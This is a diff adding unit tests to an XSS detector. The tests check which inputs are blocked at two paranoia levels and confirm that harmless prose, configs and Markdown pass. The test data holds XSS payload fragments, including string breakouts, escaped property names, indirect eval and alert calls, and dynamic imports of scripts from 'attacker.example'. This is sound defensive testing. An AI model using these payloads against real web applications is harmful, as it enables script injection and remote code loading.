@@ -315,3 +315,68 @@ describe('xss detector: linear time', () => {
     }
   });
 });
+
+describe('xss detector: a string closed, then "in" and an assignment', () => {
+  it('blocks at PL2, not PL1, with a quote, an entity quote or escapes in the name', () => {
+    const values = [
+      "'  infoo.bar=",
+      '" in window.name=1',
+      '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=',
+      '&quot;in \\u0076alueOf=',
+      '&#39; in a.b = c',
+    ];
+    blocks(values, 2);
+    for (const v of values) assert.equal(verdict(v, 1).attack, false, v);
+  });
+
+  it('leaves prose, search quotes, configs, math and HTML-ish text alone', () => {
+    passes([
+      '"in stock=1"',
+      "'info.name=value'",
+      '"index.html"=main',
+      'she wrote "in the end" and x.y=2',
+      'x<y and y>z',
+      'a <b> c',
+      "O'Brien in accounts.payable=done",
+      '"in progress" status=open',
+      '[link](https://example.com/a.b?c=d)',
+      "--set 'image.tag=1.2.3'",
+    ]);
+  });
+});
+
+describe('xss detector: sinks reached without a plain call', () => {
+  it('blocks optional calls, parenthesized sinks and sinks handed over as callbacks', () => {
+    blocks([
+      'alert?.(1)',
+      '(alert)(1)',
+      '(0,eval)(name)',
+      '[1].find(alert)',
+      'x.map(eval)',
+      'top.confirm?.(1)',
+    ]);
+  });
+
+  it('blocks a dynamic import of a remote or data: module at PL2, not PL1', () => {
+    const values = ['import("//attacker.example/x.js")', "import('https://attacker.example/m.mjs')"];
+    blocks(values, 2);
+    for (const v of values) assert.equal(verdict(v, 1).attack, false, v);
+  });
+
+  it('leaves prose with the same words, local imports, Markdown and math alone', () => {
+    passes([
+      'Set the level (alert) in settings',
+      'see (alert) (1)',
+      'alert ?.(1)',
+      'arr.map(atob)',
+      'a warning, e.g.(alert) or i.e.(prompt)',
+      "import('./greeting.js')",
+      'import (the data) from the sheet',
+      'We import (and export) goods.',
+      'See [alerts](https://example.com/alerts) (1)',
+      'x<y and y>z',
+      'a <b> c',
+      'https://hooks.example.com/webhook?event=alert',
+    ]);
+  });
+});
